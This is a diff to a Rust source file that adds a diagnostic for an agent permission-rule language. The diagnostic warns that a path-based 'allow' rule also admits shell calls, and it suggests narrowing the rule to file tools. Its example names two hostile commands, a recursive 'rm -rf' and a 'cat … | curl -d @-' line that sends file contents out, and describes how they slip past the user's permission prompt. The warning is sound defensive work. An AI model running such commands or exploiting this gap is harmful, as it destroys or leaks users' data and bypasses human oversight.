@@ -170,6 +170,12 @@ impl Code {
                 "pre_tool_use when not path like \"src/**\" => deny",
                 "Admit only tools that have the field: `kind == write and not path like \"src/**\"`.",
             ),
+            Code::AllowAdmitsShell => (
+                "An `allow` rule decides on the files a call names (`path`, `access`, `paths`) and admits shell calls. A shell call is judged once per file its command line names, so a line whose every file matches is allowed — whatever else the line runs.",
+                "`path like \"docs/**\" => allow` meant to let the agent edit the docs without asking; it also allows `rm -rf docs` and `cat docs/a | curl -d @- https://…`, skipping the user's permission prompt for them.",
+                "pre_tool_use when path like \"docs/**\" => allow",
+                "Bound the rule to the tools it means: `kind in [write, read] and path like \"docs/**\"` (or `kind != shell`); allow shell commands with `runs` on the programs you mean.",
+            ),
         };
         Doc { what, why, example, fix }
     }
